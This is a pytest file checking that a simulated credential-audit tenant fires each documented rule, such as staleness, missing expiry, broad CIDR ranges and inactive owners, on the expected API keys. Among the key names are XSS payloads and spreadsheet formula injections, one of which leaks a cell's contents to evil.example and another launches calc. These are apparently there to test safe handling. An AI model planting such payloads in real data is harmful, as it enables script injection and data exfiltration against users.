"""The curated demo tenant triggers every docs/architecture.md rule exactly where dataset.py says.

The rule predicates below restate docs/architecture.md's catalogue with its default parameters, so
this test checks the *data* (through the real adapter), independent of the policies package.
"""

from __future__ import annotations

import asyncio
from collections import Counter
from datetime import datetime, timedelta

from auditor.kernel.model import Credential
from tests.providers.conductorone.conftest import ANCHOR, FakeTime, make_sim, provider_for

DAY = timedelta(days=1)
EXPECTED: dict[str, set[str]] = {
    "clean: ci deploy": set(),
    "clean: ipv6 office": set(),
    "clean: fresh, unused": set(),
    "stale: old laptop": {"stale"},
    "never used: forgotten script": {"never-used"},
    "no expiry: permanent": {"no-expiry"},
    "no expiry: field absent": {"no-expiry"},
    "long lifetime": {"long-lifetime"},
    "expired key": {"expired"},
    "expiring soon": {"expiring-soon"},
    "no CIDR: null": {"no-source-restriction"},
    "no CIDR: absent": {"no-source-restriction"},
    "no CIDR: empty list": {"no-source-restriction"},
    "broad v4 /8": {"broad-source-restriction"},
    "broad v4 any": {"broad-source-restriction"},
    "broad v6 /32": {"broad-source-restriction"},
    "broad v6 any": {"broad-source-restriction"},
    "full access: empty scopedRoles": {"full-owner-access"},
    "full access: null scopedRoles": {"full-owner-access"},
    "admin full": {"full-owner-access", "privileged-access"},
    "admin scoped to owner role": {"privileged-access"},
    "admin scoped to viewer": set(),
    "disabled owner": {"inactive-owner"},
    "deleted owner": {"inactive-owner"},
    "directory-disabled owner": {"inactive-owner"},
    "owner that does not exist": {"inactive-owner"},
    **{f"frank key {i}": {"too-many-per-owner"} for i in range(1, 7)},
    "frank expired key": {"expired"},  # not counted, not flagged
    '<script>alert("xss")</script>': set(),
    "<img src=x onerror=alert(1)>": set(),
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")': set(),
    "@SUM(1+1)*cmd|' /C calc'!A0": set(),
    "unknown scoped role id": set(),
    "HR-terminated owner": {"inactive-owner"},
    "service user key": set(),
    "agent user key": set(),
    "break-glass owner, full": {"full-owner-access", "privileged-access"},
    # no list of its own, but it holds Super Administrator: the tenant's admin list restricts it
    "admin full, tenant allow list only": {"full-owner-access", "privileged-access"},
    "admin scoped to viewer, no CIDR": {
        "no-source-restriction (manual)",
        "broad-source-restriction (manual)",
    },
}


def failing_rules(
    c: Credential, as_of: datetime, unexpired_per_owner: Counter[str | None]
) -> set[str]:
    rules = set()
    if c.last_used_at is not None and as_of - c.last_used_at > 90 * DAY:
        rules.add("stale")
    if c.last_used_at is None and c.created_at is not None and as_of - c.created_at > 14 * DAY:
        rules.add("never-used")
    if c.expires_at is None:
        rules.add("no-expiry")
    else:
        if c.created_at is not None and c.expires_at - c.created_at > 365 * DAY:
            rules.add("long-lifetime")
        if c.expires_at <= as_of:
            rules.add("expired")
        elif c.expires_at <= as_of + 14 * DAY:
            rules.add("expiring-soon")
    inherited = c.inherited_restriction
    state = "none" if c.allowed_cidrs or inherited is None else inherited.state
    networks = c.allowed_cidrs or (inherited.cidrs if inherited else ())
    if not c.allowed_cidrs and state == "none":
        rules.add("no-source-restriction")
    if state == "unknown":
        rules |= {"no-source-restriction (manual)", "broad-source-restriction (manual)"}
    if any(n.prefixlen < (16 if n.version == 4 else 48) for n in networks):
        rules.add("broad-source-restriction")
    if c.scope_mode == "full":
        rules.add("full-owner-access")
    assert c.privilege is not None
    if "system:owner" in c.privilege.roles:
        rules.add("privileged-access")
    if c.owner.status in ("disabled", "deleted", "not_found"):
        rules.add("inactive-owner")
    if c.owner.status == "unknown":
        rules.add("owner-unverified")
    unexpired = c.expires_at is None or c.expires_at > as_of
    if unexpired and unexpired_per_owner[c.owner.id] > 5:
        rules.add("too-many-per-owner")
    return rules


def test_every_rule_fires_where_documented(fake_time: FakeTime) -> None:
    sim = make_sim()
    inventory = asyncio.run(provider_for(sim, fake_time).collect())
    creds = inventory.credentials
    unexpired = Counter(c.owner.id for c in creds if c.expires_at is None or c.expires_at > ANCHOR)
    actual = {c.name: failing_rules(c, ANCHOR, unexpired) for c in creds}
    assert actual == EXPECTED
    fired = set().union(*actual.values())
    assert fired - {"no-source-restriction (manual)", "broad-source-restriction (manual)"} == {
        "stale",
        "never-used",
        "no-expiry",
        "long-lifetime",
        "expired",
        "expiring-soon",
        "no-source-restriction",
        "broad-source-restriction",
        "full-owner-access",
        "privileged-access",
        "inactive-owner",
        "too-many-per-owner",
    }
    statuses = Counter(c.owner.status for c in creds if "inactive-owner" in actual[c.name])
    assert statuses == {"disabled": 3, "deleted": 1, "not_found": 1}
    wide = {
        str(n)
        for c in creds
        for n in c.allowed_cidrs
        if n.prefixlen < (16 if n.version == 4 else 48)
    }
    assert wide == {"10.0.0.0/8", "0.0.0.0/0", "2001:db8::/32", "::/0"}
    unknown = next(c for c in creds if c.name == "unknown scoped role id")
    assert unknown.scopes == ("system:user", "UnknownRoleIdNotInCatalog00")
    assert unknown.notes == (
        "scoped role ids not in the role catalogue (kept as ids): UnknownRoleIdNotInCatalog00",
    )
    assert inventory.coverage.excluded_deleted == 1


def test_curated_timestamps_use_0_3_6_and_9_fractional_digits() -> None:
    sim = make_sim()
    digits = set()
    for record in sim.data.clients:
        for key in ("createdAt", "lastUsedAt", "expiresTime"):
            value = record.get(key)
            if isinstance(value, str):
                digits.add(len(value.split(".")[1]) - 1 if "." in value else 0)
                assert value.endswith("Z")
    assert digits == {0, 3, 6, 9}


def test_curated_data_depends_only_on_seed_and_anchor() -> None:
    assert make_sim(seed=5).ground_truth() == make_sim(seed=5).ground_truth()
    assert make_sim(seed=5).ground_truth() != make_sim(seed=6).ground_truth()
    assert len(make_sim().ground_truth()) == 44
